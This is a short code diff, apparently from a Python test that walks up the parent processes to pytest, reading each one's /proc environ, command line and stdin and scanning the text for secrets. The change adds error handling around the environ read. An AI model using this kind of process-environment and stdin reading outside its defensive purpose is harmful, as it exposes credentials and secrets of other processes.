@@ -381,7 +381,10 @@ def secret(text):
 
 found, above = secret("\\n".join(f"{name}={value}" for name, value in os.environ.items())), os.getppid()
 while above > 1 and "pytest" not in open(f"/proc/{above}/cmdline").read():
-    found += secret(open(f"/proc/{above}/environ").read().replace("\\0", "\\n"))
+    try:
+        found += secret(open(f"/proc/{above}/environ").read().replace("\\0", "\\n"))
+    except OSError:  # it is hidden altogether
+        pass
     found += secret(open(f"/proc/{above}/cmdline").read())
     try:
         found += secret(os.read(os.open(f"/proc/{above}/fd/0", os.O_RDONLY | os.O_NONBLOCK), 10_000).decode())
